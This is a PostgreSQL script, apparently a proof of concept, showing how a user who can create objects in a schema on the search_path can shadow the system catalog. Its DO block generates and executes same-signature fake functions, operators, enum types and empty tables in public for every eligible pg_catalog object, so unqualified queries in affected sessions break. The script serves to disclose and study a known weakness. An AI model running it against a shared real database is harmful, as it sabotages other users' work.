-- What anybody can do who may create objects in a schema of the search_path: give another meaning to each function,
-- operator, type and relation of pg_catalog, with exactly the same types of arguments. A session that has public before
-- pg_catalog in its search_path and does not qualify a name gets the false object, and fails: the functions say "cannot
-- display a value of type any", because they are a function of the server that does not look at its arguments; the
-- types have one value, which nobody writes; the relations have no column.
set search_path = pg_catalog;

do $$
declare
    statement text;
begin
    for statement in
        select format('create function public.%I(%s) returns %s language internal as ''any_out''', proname,
            pg_get_function_arguments(pg_proc.oid), pg_get_function_result(pg_proc.oid))
        from pg_proc
        left join pg_aggregate on aggfnoid = pg_proc.oid
        where pronamespace = 'pg_catalog'::regnamespace
            and coalesce(aggkind, 'n') = 'n' -- the others have WITHIN GROUP in each call
            and not proargtypes::oid[] && array['cstring'::regtype, 'internal'::regtype]::oid[] -- no statement calls them
        union all
        select format('create type public.%I as enum (''of somebody else'')', typname)
        from pg_type
        where typnamespace = 'pg_catalog'::regnamespace
            and typtype = 'b'
            and typcategory <> 'A'
            and typname !~ '^_'
        union all
        select format('create table public.%I ()', relname)
        from pg_class
        where relnamespace = 'pg_catalog'::regnamespace
            and relkind in ('r', 'v')
    loop
        execute statement;
    end loop;
    for statement in
        select format('create operator public.%s (function = public.%I, %s rightarg = %s)', oprname, proname,
            'leftarg = ' || nullif(oprleft, 0)::regtype || ',', oprright::regtype)
        from pg_operator
        join pg_proc on pg_proc.oid = oprcode
        where oprnamespace = 'pg_catalog'::regnamespace
    loop
        execute statement;
    end loop;
end
$$;
reset search_path;
